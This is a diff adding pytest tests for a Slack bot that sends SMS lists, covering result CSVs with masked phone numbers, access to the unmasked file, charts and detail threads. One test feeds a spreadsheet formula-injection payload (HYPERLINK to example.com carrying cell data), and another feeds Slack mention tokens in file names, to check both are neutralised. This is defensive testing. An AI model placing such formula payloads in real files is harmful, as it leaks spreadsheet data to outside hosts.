@@ -1,0 +1,166 @@
+"""What a list leaves behind: figures in words and as a chart, details, and a file of what became of each row."""
+
+import csv as csv_module
+import io
+from collections.abc import Iterator
+
+import pytest
+
+from bot.sandbox.slack.model import Message
+from bot.sandbox.slack.person import Person
+from bot.store.states import SendState
+from tests.flows.house import ADA, FRONT, GRACE, LOU, NOBODY, SUE, House, words_in
+from tests.flows.listing import QUICK, Lists, csv, opened
+
+ROWS = csv(
+    "Name,Number", f"Ada,{ADA}", "Nobody,12", f"Lou,{LOU}", f"Nil,{NOBODY}", f"Ada,{ADA}", f"Sue,{SUE}"
+)
+TEXT = "Dear %%Name%%, the door code is in your letter."
+
+
+@pytest.fixture(scope="module")
+def shared_house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
+    with opened(tmp_path_factory.mktemp("house"), QUICK, FOLLOW_UP_HOURS="1") as shared:
+        yield shared
+
+
+@pytest.fixture
+def shop(house: House) -> Lists:
+    return Lists(house)
+
+
+def table(text: str) -> list[list[str]]:
+    return list(csv_module.reader(io.StringIO(text, newline="")))
+
+
+def direct(shop: Lists, person: Person) -> Message:
+    """Wait for the newest result file a person got by direct message."""
+    about = f"`{shop.newest().id[:8]}`"
+
+    def seen() -> Message | None:
+        found = [each for each in person.sees("@smsit") if about in each.text]
+        replies = [reply for each in found for reply in person.thread(each) if reply.files]
+        return replies[-1] if replies else None
+
+    message = shop.house.wait_for(seen)
+    assert message is not None
+    return message
+
+
+def test_everybody_sees_figures_without_numbers_and_who_asked_gets_them_whole(shop: Lists) -> None:
+    shop.send(ROWS, TEXT)
+    shop.ended()
+
+    masked = shop.file_of(shop.thread("Result of the list, numbers masked. <@U0MAYA> has the one with whole"))
+    whole = shop.file_of(direct(shop, shop.maya))
+
+    states = ["delivered", "left out", "not delivered", "not sent", "left out"]
+    for text, number in ((masked, "•••0100"), (whole, f"+{ADA}")):
+        rows = table(text)
+        assert rows[0] == ["Line", "Number", "State", "Why", "Segments", "Sent at"]
+        assert [row[0] for row in rows[1:]] == ["2", "3", "4", "5", "6", "7"]
+        assert [row[2] for row in rows[1:6]] == states
+        assert rows[6][2].startswith("sent, no news")
+        assert rows[1][1] == number
+        assert (rows[2][1], rows[5][1]) == ("", "")
+        assert "The same number stands in line 2 already." in rows[5]
+        assert "Landline or unreachable carrier" in rows[3]
+        assert rows[1][5].startswith("2026-11-2")
+    everything = words_in([[each.text, each.blocks] for each in shop.house.messages()])
+    for number in (ADA, LOU, NOBODY, SUE):
+        assert number in whole
+        assert number not in masked
+        assert number not in everything
+    assert "door code" not in everything
+    assert "door code" not in whole
+
+
+def test_figures_stand_in_words_and_in_a_chart(shop: Lists) -> None:
+    shop.send(ROWS, TEXT)
+    shop.ended()
+
+    said = shop.message("3 of 4 sent, 1 delivered, 1 not delivered, 1 refused, 2 rows left out before")
+    (chart,) = (block for block in said.blocks if block["type"] == "data_visualization")
+
+    segments = {each["label"]: each["value"] for each in chart["chart"]["segments"]}
+    assert segments == {"Delivered": 1, "Not delivered": 1, "Refused": 1, "Sent, no report": 1}
+    assert "Done: not everything was delivered, or known to be" in said.text
+    assert "3 of 4 sent, 1 delivered, 1 not delivered, 1 refused" in said.text
+    assert "by <@U0MAYA>" in said.text
+    assert "4 credits" in said.text
+
+
+def test_details_stand_in_the_thread(shop: Lists) -> None:
+    shop.send(ROWS, TEXT)
+    shop.ended()
+
+    details = shop.thread("*Details* of list")
+
+    assert "*2 rows left out*, nothing is sent to them:" in details.text
+    assert "• line 3: " in details.text
+    assert "• line 6: The same number stands in line 2 already." in details.text
+    assert "*Refused*\n• 1 time: SMS-iT cannot text this number" in details.text
+    assert "*Tried a minute* (America/Los_Angeles)" in details.text
+    assert ": 4" in details.text
+    assert len([each for each in shop.maya.thread(shop.message()) if "*Details*" in each.text]) == 1
+
+
+def test_only_who_asked_or_an_admin_gets_whole_numbers(shop: Lists) -> None:
+    shop.send(ROWS, TEXT)
+    shop.ended()
+    direct(shop, shop.maya)
+    before = len(list(shop.house.sandbox.slack.files))
+
+    for user_id in ("U0PRIYA", "U0LENA"):
+        person = shop.house.person(user_id)
+        shop.press("Result file", who=person)
+        shop.told("It holds whole phone numbers: only who asked for the list, or an admin, gets it.", person)
+    assert len(list(shop.house.sandbox.slack.files)) == before
+    pressed = shop.press("Result file", who=shop.tom)
+    shop.told("The result file comes to you as a direct message in a moment.", shop.tom)
+    assert f"+{ADA}" in shop.file_of(direct(shop, shop.tom))
+    shop.house.sandbox.slack.redeliver(pressed)
+    shop.house.wait_for_database(shop.house.bot.is_quiet)
+    shop.press("Result file")
+
+    shop.house.wait_for(lambda: len(list(shop.house.sandbox.slack.files)) == before + 2)
+
+
+def test_what_a_spreadsheet_would_run_is_harmless_in_the_file_and_as_it_was_in_the_text(shop: Lists) -> None:
+    formula = '=HYPERLINK("http://example.com/?"&A1)'
+    quoted = formula.replace('"', '""')
+    shop.send(csv(f'Name,Number,"{quoted}"', f'"{quoted}",{ADA},x', f'x,"{quoted}",x'), "Dear %%Name%%")
+    shop.ended()
+
+    for text in (
+        shop.file_of(direct(shop, shop.maya)),
+        shop.file_of(shop.thread("Result of the list, numbers masked.")),
+    ):
+        cells = [cell for row in table(text) for cell in row]
+        assert not any(cell.startswith(("=", "@", "-", "\t")) for cell in cells)
+        assert formula not in cells
+    assert shop.house.texts == [(ADA, f"Dear {formula}")]
+
+
+def test_words_of_a_file_cannot_ping_or_forge_in_the_confirmation(shop: Lists) -> None:
+    shop.compose(csv("Name,Number", f"<!channel>,{ADA}"), "Hi %%Name%%", name="<!here> 14155550101.csv")
+    said = shop.confirmation(shop.maya)
+    shop.maya.submit()
+    shop.ended()
+
+    assert shop.house.texts == [(ADA, "Hi <!channel>")]
+    shown = words_in([[each.text, each.blocks] for each in shop.house.messages()])
+    for words in (said, shown):
+        assert "<!here>" not in words
+        assert GRACE not in words
+
+
+def test_an_ended_list_keeps_one_message_and_no_way_to_send_it_again(shop: Lists) -> None:
+    shop.send(ROWS, TEXT)
+    shop.ended()
+    shop.house.tick(hours=3)
+
+    assert shop.buttons() == ["Result file", "Show text"]
+    assert len([each for each in shop.house.messages(FRONT) if "List *" in each.text]) == 1
+    assert shop.counts()[SendState.REFUSED] == 1
+    assert len(shop.house.texts) == 3
